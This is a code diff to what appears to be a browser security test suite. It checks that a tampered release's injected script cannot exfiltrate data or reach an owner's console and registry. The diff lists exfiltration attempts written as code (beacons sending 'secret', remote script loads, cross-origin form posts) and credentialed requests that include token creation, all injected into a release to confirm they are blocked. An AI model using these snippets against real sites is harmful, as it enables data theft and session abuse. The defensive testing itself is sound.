@@ -1,5 +1,6 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { callInPage } from '@psma/test-harness/callInPage.ts';
 import { signInToConsole } from '@psma/test-harness/consoleSignIn.ts';
 import { editedRelease } from '@psma/test-harness/patchedRelease.ts';
 import { releaseCli } from '@psma/test-harness/releaseCli.ts';
@@ -9,20 +10,29 @@ import { title } from '@psma/test-harness/visitor.ts';
 test.use({ expectedConsoleErrors: /Content Security Policy|Trusted|script policy/ });
 
 /** Attempts to exfiltrate data or run foreign code. */
-const ATTEMPTS: Record<string, string> = {
-  fetch: 'fetch(other + "fetch").catch(() => {})',
-  beacon: 'navigator.sendBeacon(other + "beacon", "secret")',
-  image: 'new Image().src = other + "image"',
-  socket: 'new WebSocket(other.replace("http", "ws") + "socket")',
-  stream: 'new EventSource(other + "stream")',
-  style:
-    'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: other + "style" }))',
-  frame: 'document.body.append(Object.assign(document.createElement("iframe"), { src: other + "frame" }))',
-  form: 'const form = Object.assign(document.createElement("form"), { action: other + "form", method: "post", target: "_blank" }); document.body.append(form); form.submit()',
-  script: 'document.head.append(Object.assign(document.createElement("script"), { src: other + "script" }))',
-  import: 'import(other + "import").catch(() => {})',
-  worker: 'new Worker(other + "worker")',
-  serviceWorker: 'navigator.serviceWorker.register("/dev/null.js").catch(() => {})',
+const ATTEMPTS: Record<string, (other: string) => unknown> = {
+  fetch: (other) => fetch(`${other}fetch`).catch(() => {}),
+  beacon: (other) => navigator.sendBeacon(`${other}beacon`, 'secret'),
+  image: (other) => Object.assign(new Image(), { src: `${other}image` }),
+  socket: (other) => new WebSocket(`${other.replace('http', 'ws')}socket`),
+  stream: (other) => new EventSource(`${other}stream`),
+  style: (other) =>
+    document.head.append(
+      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${other}style` }),
+    ),
+  frame: (other) =>
+    document.body.append(Object.assign(document.createElement('iframe'), { src: `${other}frame` })),
+  form: (other) => {
+    const form = document.createElement('form');
+    Object.assign(form, { action: `${other}form`, method: 'post', target: '_blank' });
+    document.body.append(form);
+    form.submit();
+  },
+  script: (other) =>
+    document.head.append(Object.assign(document.createElement('script'), { src: `${other}script` })),
+  import: (other) => import(`${other}import`).catch(() => {}),
+  worker: (other) => new Worker(`${other}worker`),
+  serviceWorker: () => navigator.serviceWorker.register('/dev/null.js').catch(() => {}),
 };
 
 /** Requests to console and registry with an owner's session. */
@@ -36,6 +46,22 @@ const REQUESTS = [
   ['POST', '/registry/tokens'],
 ] as const;
 
+/** Sends each request to the page's origin and to the console's. */
+function sendAll(requests: typeof REQUESTS, consoleUrl: string) {
+  const release = '0'.repeat(12);
+  const body = new URLSearchParams({ release, reason: 'attack', label: 'mine', owner: 'yes' });
+  return Promise.all(
+    requests.flatMap(([method, path]) =>
+      [location.origin, consoleUrl].map((origin) =>
+        fetch(origin + path, { method, credentials: 'include', ...(method === 'POST' ? { body } : {}) }).then(
+          ({ status }) => status,
+          () => 'blocked',
+        ),
+      ),
+    ),
+  );
+}
+
 test('G237 a release’s script reaches neither console nor registry of an owner who is signed in @short', async ({
   page,
   product,
@@ -46,7 +72,7 @@ test('G237 a release’s script reaches neither console nor registry of an owner
   const state = () => Promise.all([release('list'), release('token', 'list')]);
   const { directory, releaseId } = await editedRelease(product, 'mf-triage', 'console', (script) =>
     /^(?:"use strict";)?var mf_triage/.test(script)
-      ? `${script};globalThis.attack=Promise.all(${JSON.stringify(REQUESTS)}.flatMap(([method,path])=>[location.origin,${JSON.stringify(product.consoleUrl)}].map((origin)=>fetch(origin+path,{method,credentials:"include",...(method==="POST"?{body:new URLSearchParams({release:${JSON.stringify('0'.repeat(12))},reason:"attack",label:"mine",owner:"yes"})}:{})}).then(({status})=>status,()=>"blocked"))))`
+      ? `${script};globalThis.attack=${callInPage(sendAll, REQUESTS, product.consoleUrl)}`
       : script,
   );
   const unseen = ['--no-smoke', 'a hostile release'];
@@ -84,9 +110,12 @@ test('what a release’s script tries with another origin is blocked: it can nei
 
   const { releaseId, directory } = await editedRelease(product, 'mf-triage', other, (script) =>
     /^(?:"use strict";)?var mf_triage/.test(script)
-      ? `${script};(()=>{const other=${JSON.stringify(other)};globalThis.tried=[];${Object.entries(ATTEMPTS)
-          .map(([name, attempt]) => `try{${attempt}}catch{};tried.push(${JSON.stringify(name)});`)
-          .join('')}})()`
+      ? `${script};globalThis.tried=[];${Object.entries(ATTEMPTS)
+          .map(
+            ([name, attempt]) =>
+              `try{${callInPage(attempt, other)}}catch{}tried.push(${JSON.stringify(name)});`,
+          )
+          .join('')}`
       : script,
   );
   const release = releaseCli(copy, product);
